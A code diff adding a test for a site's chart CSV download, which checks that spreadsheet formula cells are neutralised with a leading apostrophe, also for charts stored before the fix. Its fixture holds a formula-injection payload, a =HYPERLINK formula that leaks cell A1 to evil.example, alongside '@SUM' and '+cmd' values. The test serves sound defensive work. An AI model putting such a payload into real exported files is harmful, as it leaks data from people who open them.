@@ -423,6 +423,45 @@ describe("downloads", () => {
     expect(csv).toContain("2020-21,1407086083.78");
   });
 
+  // Issue 13, item 11: a label like =HYPERLINK(...) went out as a formula.
+  it("neutralises cells a spreadsheet would read as formulas, keeping negative numbers, even in charts drawn before", async () => {
+    const slug = "formula-labels";
+    const csv = [
+      "Label,Change",
+      '"=HYPERLINK(""https://evil.example/?leak=""&A1,""Invoice"")",-5',
+      "@SUM(1+1),10",
+      "+cmd,2.5",
+      "Plain,-0.25",
+    ].join("\n");
+    await createItem({
+      type: "data-story",
+      slug,
+      body: `\`\`\`chart\nkind: line\ntitle: Changes\nlabel: Label\nvalues: Change\ncsv: |\n${csv
+        .split("\n")
+        .map((line) => `  ${line}`)
+        .join("\n")}\n\`\`\``,
+    });
+    const expected = [
+      "Label,Change",
+      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Invoice"")",-5`,
+      "'@SUM(1+1),10",
+      "'+cmd,2.5",
+      "Plain,-0.25",
+      "",
+    ].join("\r\n");
+    const download = () => get(chartCsvLoader, `/library/${slug}/charts/1.csv`, { slug, file: "1.csv" });
+    expect(await (await download()).text()).toBe(expected);
+
+    // A chart stored before this change still has the formulas in its row.
+    const { id } = await db.selectFrom("items").select("id").where("slug", "=", slug).executeTakeFirstOrThrow();
+    await db
+      .updateTable("item_charts")
+      .set({ csv: `${csv.replace(/\n/g, "\r\n")}\r\n` })
+      .where("item_id", "=", id)
+      .execute();
+    expect(await (await download()).text()).toBe(expected);
+  });
+
   it.each([
     [
       "a dataset that is not there",
